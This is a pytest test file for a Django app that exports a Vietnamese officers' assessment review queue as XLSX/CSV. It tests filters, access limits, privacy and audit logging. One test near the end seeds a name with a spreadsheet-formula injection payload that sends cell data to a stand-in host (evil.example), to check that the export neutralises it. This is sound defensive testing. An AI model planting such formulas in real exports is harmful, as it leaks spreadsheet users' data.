"""The officers' queue as XLSX/CSV: the queue's filters, status and search, the officer's
subtree only, no citizen ID or birth date, and a number of queries that does not grow."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from assessments.models import AssessmentStatus
from audit.models import AuditAction, AuditEvent
from tests.factories import CommuneFactory, ResidentialAreaFactory
from tests.factories.review import (
    YEAR,
    bulk_assessments,
    make_assessment,
    review_world_in_admin,
)
from tests.refusals import assert_refused_to_admin_home

pytestmark = pytest.mark.django_db

S = AssessmentStatus
QUEUE = "assessment_review:index"
# The headings in Vietnamese, as the officer's spreadsheet shows them.
HEADINGS = [
    "Tên",
    "Khu dân cư",
    "Nhóm đối tượng",
    "Năm",
    "Trạng thái",
    "Điểm",
    "Xếp loại",
    "Có minh chứng",
    "Ngày nộp",
    "Số giấy chứng nhận",
]


@pytest.fixture
def world(db):
    return review_world_in_admin()


def export(client, world, role, **params):
    client.force_login(world.officers[role])
    return client.get(reverse(QUEUE), params)


def xlsx_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # BOM for Excel
    return list(csv.reader(io.StringIO(text)))


def test_the_queue_offers_the_downloads_under_its_filters_and_search(client, world):
    make_assessment(world, full_name="Nguyễn Thị Hoa")

    response = export(client, world, "commune", status="submitted", q="hoa")

    html = response.content.decode()
    assert "export=xlsx" in html and "export=csv" in html
    assert "status=submitted&amp;q=hoa&amp;export=xlsx" in html


def test_xlsx_holds_the_filtered_and_searched_queue(client, world):
    hoa = make_assessment(world, full_name="Nguyễn Thị Hoa", evidence=True)
    make_assessment(world, full_name="Nguyễn Văn Nam", status=S.VERIFIED)  # another status
    make_assessment(world, full_name="Trần Thị Bình")  # not searched for
    make_assessment(world, full_name="Nguyễn Thị Hạnh", area=world.other_branch_area)

    rows = xlsx_rows(
        export(
            client,
            world,
            "commune",
            export="xlsx",
            status="submitted",
            q="nguyen thi",
            area=world.branch_area.pk,
        )
    )

    assert rows[0] == HEADINGS
    submitted_on = timezone.localtime(hoa.submitted_at).date()
    assert rows[1:] == [
        [
            "Nguyễn Thị Hoa",
            f"Thôn Phương Điếm, {world.commune.name}",
            "Nông dân, lao động nông thôn",
            YEAR,
            "Chờ thẩm định",
            80,
            "Khá",
            "Có",
            submitted_on,  # a date cell, not text
            None,
        ]
    ]


def test_csv_holds_statuses_and_certificates_as_the_queue_shows_them(client, world):
    standing = make_assessment(world, full_name="Đỗ Văn Đức", status=S.RECOGNISED)
    revoked = make_assessment(world, full_name="Đặng Thị Đào", status=S.RECOGNISED)
    revoked.recognition.revoked = True
    revoked.recognition.save()
    make_assessment(world, full_name="Đoàn Văn Đạt")  # submitted: another tab
    make_assessment(world, full_name="Lê Văn Hùng", status=S.RECOGNISED)  # not searched for

    # "Đ" finds every đ and d, accent-insensitive as in the list; Hùng has none.
    rows = csv_rows(export(client, world, "commune", export="csv", status="recognised", q="Đ"))

    assert rows[0] == HEADINGS
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Đỗ Văn Đức", "Đặng Thị Đào"}
    assert by_name["Đỗ Văn Đức"][4] == "Đã công nhận"
    assert by_name["Đỗ Văn Đức"][5] == "80"
    assert by_name["Đỗ Văn Đức"][9] == standing.recognition.certificate_number
    assert by_name["Đặng Thị Đào"][4] == "Đã thu hồi danh hiệu"
    assert by_name["Đặng Thị Đào"][9] == ""


def test_points_keep_the_vietnamese_decimal_comma_in_csv_and_a_number_in_xlsx(client, world):
    make_assessment(world, full_name="Nguyễn Thị Hoa", points=(16, 16, 16, 16, "16.5"))

    csv_row = csv_rows(export(client, world, "commune", export="csv"))[1]
    xlsx_row = xlsx_rows(export(client, world, "commune", export="xlsx"))[1]

    assert csv_row[5] == "80,5"
    assert xlsx_row[5] == Decimal("80.5")


def test_the_export_never_holds_citizen_ids_or_birth_dates(client, world):
    hoa = make_assessment(world, full_name="Nguyễn Thị Hoa")
    hoa.citizen.birth_year = 1987
    hoa.citizen.save()

    text = b"".join(export(client, world, "commune", export="csv").streaming_content).decode()

    assert hoa.citizen.citizen_id not in text
    assert hoa.citizen.citizen_id[-6:] not in text
    assert "1987" not in text


def test_another_communes_rows_are_absent(client, world):
    elsewhere = ResidentialAreaFactory(parent=CommuneFactory(), name="Thôn Xa Lắc")
    make_assessment(world, full_name="Nguyễn Thị Hoa")
    make_assessment(world, full_name="Nguyễn Văn Xa", area=elsewhere)

    rows = csv_rows(export(client, world, "commune", export="csv"))
    # A crafted filter on the other commune's area is no way in either.
    crafted = csv_rows(export(client, world, "commune", export="csv", area=elsewhere.pk))

    assert [row[0] for row in rows[1:]] == ["Nguyễn Thị Hoa"]
    assert "Nguyễn Văn Xa" not in {row[0] for row in crafted}


def test_a_branch_officer_exports_their_branch_only(client, world):
    make_assessment(world, full_name="Nguyễn Thị Hoa")
    make_assessment(world, full_name="Lê Văn Xa", area=world.other_branch_area)

    rows = xlsx_rows(export(client, world, "branch", export="xlsx"))

    assert [row[0] for row in rows[1:]] == ["Nguyễn Thị Hoa"]


@pytest.mark.parametrize("spreadsheet", ["xlsx", "csv"])
def test_a_citizen_is_refused_the_export_like_the_queue(client, world, spreadsheet):
    make_assessment(world, full_name="Nguyễn Thị Hoa")

    response = export(client, world, "citizen", export=spreadsheet)

    assert_refused_to_admin_home(response)
    assert "Nguyễn Thị Hoa" not in response.content.decode()


def test_an_anonymous_visitor_is_sent_to_the_login(client, world):
    response = client.get(reverse(QUEUE), {"export": "csv"})

    assert response.status_code == 302


def test_the_file_is_named_after_the_queue_in_ascii_without_losing_d(client, world):
    make_assessment(world, status=S.VERIFIED)

    response = export(client, world, "commune", export="xlsx", status="verified", year=YEAR)

    # “Đã thẩm định” → “da-tham-dinh”: slugify would have dropped the đ.
    assert (
        f'filename="hang-doi-danh-gia-da-tham-dinh-{YEAR}.xlsx"' in response["Content-Disposition"]
    )


def test_without_a_year_the_file_is_dated(client, world):
    response = export(client, world, "commune", export="csv")

    today = timezone.localdate().isoformat()
    assert (
        response["Content-Disposition"] == f'attachment; filename="hang-doi-danh-gia-{today}.csv"'
    )


def test_the_export_is_recorded_without_the_searched_name(client, world):
    export(client, world, "commune", export="csv", status="submitted", q="nguyen thi hoa")

    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert event.object_type == "assessments.Assessment"
    assert event.actor == world.officers["commune"]
    assert event.detail["format"] == "csv" and "status=submitted" in event.detail["query"]
    assert "nguyen" not in str(event.detail)


def export_queries(client, params):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse(QUEUE), params)
        b"".join(response.streaming_content)  # CSV rows are read as the response streams
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize("spreadsheet", ["xlsx", "csv"])
def test_export_query_count_does_not_grow_with_rows(client, world, spreadsheet):
    client.force_login(world.officers["commune"])
    bulk_assessments(world, 5)
    make_assessment(world, status=S.RECOGNISED, full_name="Nguyễn Thị Lan")
    plain = {"export": spreadsheet}
    searched = {"export": spreadsheet, "status": "submitted", "q": "nguyen"}
    few, few_searched = export_queries(client, plain), export_queries(client, searched)

    bulk_assessments(world, 25)
    bulk_assessments(world, 5, status=S.RECOGNISED)

    assert export_queries(client, plain) == few
    assert export_queries(client, searched) == few_searched


def test_an_export_too_long_to_write_is_refused_with_the_way_out(client, world, settings):
    make_assessment(world, full_name="Nguyễn Thị Hoa")
    make_assessment(world, full_name="Trần Văn Bình")
    settings.CDHT_QUEUE_EXPORT_MAX_ROWS = {"xlsx": 1, "csv": 10}

    response = export(client, world, "commune", export="xlsx", status="submitted")
    assert response.status_code == 302
    assert "export=" not in response["Location"] and "status=submitted" in response["Location"]
    page = client.get(response["Location"]).content.decode()
    assert "CSV" in page and "2" in page
    assert len(csv_rows(export(client, world, "commune", export="csv"))) == 3  # heading + 2


def test_a_name_written_as_a_formula_stays_text_in_csv(client, world):
    make_assessment(world, full_name='=HYPERLINK("http://evil.example/?"&A2,"Nguyễn Văn A")')
    rows = csv_rows(export(client, world, "commune", export="csv"))
    assert rows[1][0].startswith("'=HYPERLINK(")


def test_csv_rows_are_read_in_chunks(client, world, monkeypatch):
    from django.db.models.query import QuerySet

    make_assessment(world)
    chunked = []
    original = QuerySet.iterator

    def iterator(self, chunk_size=None):
        chunked.append(chunk_size)
        return original(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", iterator)
    assert len(csv_rows(export(client, world, "commune", export="csv"))) == 2
    assert chunked and chunked[-1] == 2000
